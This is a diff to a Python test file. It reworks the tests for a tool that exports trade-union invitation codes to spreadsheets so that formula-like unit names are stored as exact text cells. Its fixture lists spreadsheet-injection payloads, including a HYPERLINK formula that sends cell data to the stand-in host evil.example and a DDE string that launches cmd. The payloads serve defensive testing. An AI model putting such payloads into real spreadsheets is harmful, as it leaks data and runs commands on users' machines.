@@ -345,8 +345,8 @@ def read_sheet(path: Path) -> list[tuple[object, ...]]:
 
 
 def test_codes_never_start_with_a_character_a_spreadsheet_or_shell_would_take_as_special() -> None:
-    # A code starting with "-" would be neutralised as a formula in the export ("'-…") and read as an
-    # option on a command line, so the chair would type a code that is not the stored one.
+    # A code starting with "-" would be read as an option on a command line, and a spreadsheet user typing it
+    # into a cell would get a formula, so the chair would type a code that is not the stored one.
     assert all(new_code()[0].isalnum() for _ in range(5_000))
 
 
@@ -494,13 +494,14 @@ def test_cli_export_skips_units_that_have_a_chair(cli_sample: Path, tmp_path: Pa
 
 FORMULA_NAMES = {
     "DL-BMT-013": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
-    "DL-BMT-014": "+84 Công đoàn",
-    "DL-BMT-015": "-Công đoàn",
+    "DL-BMT-014": "+84 912 345 678",
+    "DL-BMT-015": "-2+3",
     "DL-BMT-016": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "DL-BMT-017": "=1+1",
 }
 
 
-def test_cli_export_neutralises_formulas_in_unit_names(cli_sample: Path, tmp_path: Path) -> None:
+def test_cli_export_keeps_formula_like_unit_names_exact_as_string_cells(cli_sample: Path, tmp_path: Path) -> None:
     extra = tmp_path / "extra.csv"
     lines = ["code,name,kind,parent_code"]
     for code, name in FORMULA_NAMES.items():
@@ -514,15 +515,31 @@ def test_cli_export_neutralises_formulas_in_unit_names(cli_sample: Path, tmp_pat
     result = cli(cli_sample, "invites", "export", "--out", str(out))
 
     assert result.exit_code == 0, result.output
-    header, *rows = read_sheet(out)
-    assert len(rows) == SAMPLE_GRASSROOTS + len(FORMULA_NAMES)
-    for row in [header, *rows]:
+    sheet = load_workbook(out).worksheets[0]
+    assert sheet.max_row - 1 == SAMPLE_GRASSROOTS + len(FORMULA_NAMES)
+    for row in sheet.iter_rows():
         for cell in row:
-            if isinstance(cell, str):
-                assert not cell.startswith(("=", "+", "-", "@")), cell
-    names = {r[0]: r[1] for r in rows}
+            assert cell.data_type != "f", (cell.coordinate, cell.value)  # nothing can run as a formula
+    names = {r[0].value: r[1] for r in sheet.iter_rows(min_row=2)}
     for code, name in FORMULA_NAMES.items():
-        assert names[code].endswith(name), names[code]  # still readable, only guarded
+        # Exactly what was imported, typed as text: no guarding apostrophe altering the data.
+        assert (names[code].value, names[code].data_type) == (name, "s")
+
+
+def test_invites_workbook_keeps_phone_numbers_and_formula_text_exact(tmp_path: Path, repo: Path,
+                                                                     clock: FakeClock) -> None:
+    t = Translator("vi", repo / "locales")
+    values = ["+84 912 345 678", "-2+3", "=1+1", "@SUM(A1)"]
+    invites = [IssuedInvite(i, f"code{i}", Unit(i, f"DL-X-{i}", value, UnitKind.PUBLIC_AGENCY, 2, "DL-X"),
+                            Role.CHAIR, clock.now() + timedelta(days=14), value) for i, value in enumerate(values)]
+    path = tmp_path / "invites.xlsx"
+
+    write_invites_xlsx(path, invites, t, VN)
+
+    sheet = load_workbook(path).worksheets[0]
+    for row, value in zip(sheet.iter_rows(min_row=2), values, strict=True):
+        for cell in (row[1], row[5]):  # the unit's name and the link
+            assert (cell.value, cell.data_type) == (value, "s")
 
 
 def test_cli_export_needs_an_xlsx_name(cli_sample: Path, tmp_path: Path) -> None:
